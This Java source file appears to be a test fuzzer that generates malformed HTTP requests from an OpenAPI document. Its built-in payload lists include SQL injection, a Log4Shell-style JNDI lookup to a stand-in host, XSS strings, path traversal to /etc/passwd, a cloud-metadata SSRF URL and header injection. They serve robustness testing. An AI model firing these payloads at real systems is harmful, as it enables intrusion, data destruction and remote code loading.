package dev.usher.control;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.StringJoiner;

/**
 * Requests made from the API's description: some right, most wrong in one way or another. The same
 * seed makes the same requests.
 */
final class FuzzedRequests {
  private static final List<String> NASTY =
      List.of(
          "",
          " ",
          "\u0000",
          "a\u0000b",
          "a\r\nset-cookie: x=1",
          "'; DROP TABLE endpoints; --",
          "' OR '1'='1",
          "\\",
          "\"",
          "%",
          "%00",
          "%s%n%x",
          "${jndi:ldap://x.example/a}",
          "<script>alert(1)</script>",
          "../../etc/passwd",
          "\u202Egnp.exe",
          "\u2028\u2029\u0085",
          "\uFEFF",
          "\uD83C\uDFAB\uD83C\uDFAB",
          "e\u0301".repeat(300),
          "null",
          "true",
          "NaN",
          "-1",
          "9".repeat(40),
          "1e400",
          "0x10",
          "javascript:alert(1)",
          "https://user:pass@example.com/",
          "https://169.254.169.254/latest",
          "file:///etc/passwd",
          "0.0.0.0/0",
          "::/0",
          "999999999d",
          "2025-02-31T00:00:00Z",
          "9999-12-31T23:59:59.999999999+00:00",
          "1969-12-31T23:59:59Z",
          "(a+)+$",
          "a".repeat(130),
          "x".repeat(5_000));

  private static final List<String> NASTY_JSON =
      List.of(
          "null",
          "true",
          "[]",
          "{}",
          "0",
          "-1",
          "1.5",
          "1e400",
          "-0",
          "9223372036854775808",
          "1" + "0".repeat(60),
          "1" + "0".repeat(400),
          "\"\\ud800\"",
          "\"\\u0000\"",
          "[[[]]]",
          "[null]",
          "{\"\":{}}",
          "{\"__proto__\":{\"a\":1}}",
          "{\"$ref\":\"#/\"}",
          "{\"type\":\"object\",\"properties\":{\"a\":{\"$ref\":\"#\"}}}",
          "[".repeat(30) + "]".repeat(30),
          "[".repeat(5_000) + "]".repeat(5_000),
          "{\"a\":".repeat(200) + "1" + "}".repeat(200));

  private static final Set<String> WITH_BODY = Set.of("POST", "PUT", "PATCH");

  private final Random random;
  private final JsonNode document;

  FuzzedRequests(long seed, JsonNode document) {
    this.random = new Random(seed);
    this.document = document;
  }

  /**
   * A request as it goes onto the wire.
   *
   * @param target path and query, perhaps wrongly encoded
   */
  record Request(String method, String target, Map<String, String> headers, byte[] body) {
    @Override
    public String toString() {
      String text = new String(body, StandardCharsets.UTF_8);
      return method
          + " "
          + target
          + " "
          + headers
          + "\n"
          + text.substring(0, Math.min(2_000, text.length()));
    }
  }

  /**
   * The next request of a call.
   *
   * @param id of something that exists, for the path
   */
  Request next(String method, String path, JsonNode operation, String id) {
    Map<String, String> headers = new LinkedHashMap<>();
    StringBuilder target = new StringBuilder(path.replace("{id}", oneOf(6) ? segment() : id));
    query(operation, target);
    header(headers, "idempotency-key", 6);
    header(headers, "if-match", 8);
    header(headers, "usher-organization", 30);
    byte[] body = WITH_BODY.contains(method) ? body(operation) : new byte[0];
    if (body.length > 0) {
      headers.put("content-type", contentType());
      if (oneOf(40)) {
        headers.put("content-encoding", pick(List.of("gzip", "identity", "x")));
      }
    }
    return new Request(method, target.toString(), headers, body);
  }

  private String contentType() {
    return oneOf(20)
        ? pick(
            List.of(
                "text/plain",
                "application/xml",
                "application/json; charset=latin1",
                "\u00e9",
                "multipart/form-data; boundary=x"))
        : "application/json";
  }

  /** A header cannot hold more than visible ASCII: beyond that HTTP itself refuses. */
  private void header(Map<String, String> headers, String name, int oneIn) {
    if (oneOf(oneIn)) {
      String value = pick(NASTY).replaceAll("[^ -~]", "");
      headers.put(name, random.nextBoolean() ? value : "\"" + value.length() + "\"");
    }
  }

  private String segment() {
    if (oneOf(4)) {
      return pick(List.of("%zz", "%", "%c3%28", "%00", "..%2f..", "%2e%2e", "a;b=c", "%ff"));
    }
    String text = encoded(pick(NASTY));
    return text.isEmpty() ? "x" : text;
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private void query(JsonNode operation, StringBuilder target) {
    List<String> parameters = new ArrayList<>();
    for (JsonNode reference : operation.path("parameters")) {
      JsonNode parameter = resolved(reference);
      if (parameter.path("in").asText().equals("query") && random.nextBoolean()) {
        String name = parameter.path("name").asText();
        String value = plain(parameter.path("schema"));
        parameters.add(name + "=" + (oneOf(30) ? "%zz" : encoded(value)));
        if (oneOf(30)) {
          parameters.add(name + "=" + encoded(value));
        }
      }
    }
    if (oneOf(25)) {
      parameters.add(encoded(pick(NASTY)) + "=" + encoded(pick(NASTY)));
    }
    if (!parameters.isEmpty()) {
      target.append('?').append(String.join("&", parameters));
    }
  }

  /** A parameter's value, without JSON's quotes. */
  private String plain(JsonNode schema) {
    String json = value(schema, 0);
    return json.startsWith("\"") ? Json.trusted(json).asText() : json;
  }

  private byte[] body(JsonNode operation) {
    JsonNode schema = operation.at("/requestBody/content/application~1json/schema");
    String json = schema.isMissingNode() ? (oneOf(4) ? pick(NASTY_JSON) : "") : value(schema, 0);
    byte[] bytes = json.getBytes(StandardCharsets.UTF_8);
    return oneOf(6) ? broken(bytes) : bytes;
  }

  private byte[] broken(byte[] bytes) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    int at = bytes.length == 0 ? 0 : random.nextInt(bytes.length);
    switch (random.nextInt(8)) {
      case 0 -> out.writeBytes(Arrays.copyOf(bytes, at));
      case 1 -> {
        out.writeBytes(Arrays.copyOf(bytes, at));
        out.write(pick(List.of(0xFF, 0xC0, 0xED, 0)));
        out.writeBytes(Arrays.copyOfRange(bytes, at, bytes.length));
      }
      case 2 -> {
        out.writeBytes(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
        out.writeBytes(bytes);
      }
      case 3 -> {
        out.writeBytes(bytes);
        out.writeBytes(bytes);
      }
      case 4 -> {
        out.writeBytes(" ".repeat(300 * 1024).getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(bytes);
      }
      case 5 ->
          out.writeBytes(
              new String(bytes, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16));
      case 6 ->
          out.writeBytes(
              ("[" + new String(bytes, StandardCharsets.UTF_8) + "]")
                  .getBytes(StandardCharsets.UTF_8));
      default -> out.writeBytes(pick(NASTY_JSON).getBytes(StandardCharsets.UTF_8));
    }
    return out.toByteArray();
  }

  /** A JSON text: what the schema wants, or something near it, or something else. */
  private String value(JsonNode reference, int depth) {
    JsonNode schema = resolved(reference);
    if (depth > 0 && oneOf(14)) {
      return oneOf(2) ? pick(NASTY_JSON) : Json.text(pick(NASTY)).toString();
    }
    if (schema.has("enum")) {
      return pick(elements(schema.path("enum"))).toString();
    }
    JsonNode types = schema.path("type");
    return switch (types.isArray() ? types.path(0).asText() : types.asText()) {
      case "object" -> object(schema, depth);
      case "array" -> array(schema, depth);
      case "integer" -> integer(schema);
      case "boolean" -> String.valueOf(random.nextBoolean());
      default -> string(schema);
    };
  }

  private String object(JsonNode schema, int depth) {
    StringJoiner members = new StringJoiner(",", "{", "}");
    List<String> required =
        elements(schema.path("required")).stream().map(JsonNode::asText).toList();
    schema
        .path("properties")
        .properties()
        .forEach(
            member -> {
              boolean wanted = required.contains(member.getKey());
              if (wanted ? !oneOf(25) : random.nextBoolean()) {
                members.add(Json.text(member.getKey()) + ":" + value(member.getValue(), depth + 1));
              }
            });
    boolean free = !schema.has("properties");
    for (int i = free ? random.nextInt(4) : oneOf(25) ? 1 : 0; i > 0; i--) {
      JsonNode of = schema.path("additionalProperties");
      members.add(Json.text(oneOf(2) ? "k" + i : pick(NASTY)) + ":" + value(of, depth + 1));
    }
    return members.toString();
  }

  private String array(JsonNode schema, int depth) {
    StringJoiner items = new StringJoiner(",", "[", "]");
    int most = schema.path("maxItems").asInt(3);
    int count = oneOf(40) ? most + 1 : random.nextInt(Math.min(most, 4) + 1);
    for (int i = 0; i < count; i++) {
      items.add(value(schema.path("items"), depth + 1));
    }
    return items.toString();
  }

  private String integer(JsonNode schema) {
    long min = schema.path("minimum").asLong();
    long max = schema.path("maximum").asLong(1_000);
    return pick(
        List.of(
            String.valueOf(min),
            String.valueOf(max),
            String.valueOf(min + (long) (random.nextDouble() * (max - min))),
            oneOf(3) ? String.valueOf(min - 1) : String.valueOf(min),
            oneOf(3) ? String.valueOf(max + 1) : String.valueOf(max)));
  }

  private String string(JsonNode schema) {
    List<JsonNode> examples = elements(schema.path("examples"));
    if (!examples.isEmpty() && !oneOf(8)) {
      return pick(examples).toString();
    }
    int most = schema.path("maxLength").asInt(100);
    return Json.text(
            switch (random.nextInt(5)) {
              case 0 -> "a".repeat(Math.min(most, 40_000));
              case 1 -> "a".repeat(Math.min(most, 40_000) + 1);
              case 2 -> "abc";
              default -> pick(NASTY);
            })
        .toString();
  }

  private JsonNode resolved(JsonNode node) {
    return node.has("$ref") ? document.at(node.path("$ref").asText().substring(1)) : node;
  }

  private static List<JsonNode> elements(JsonNode list) {
    List<JsonNode> elements = new ArrayList<>();
    list.forEach(elements::add);
    return elements;
  }

  private boolean oneOf(int many) {
    return random.nextInt(many) == 0;
  }

  private <T> T pick(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }
}
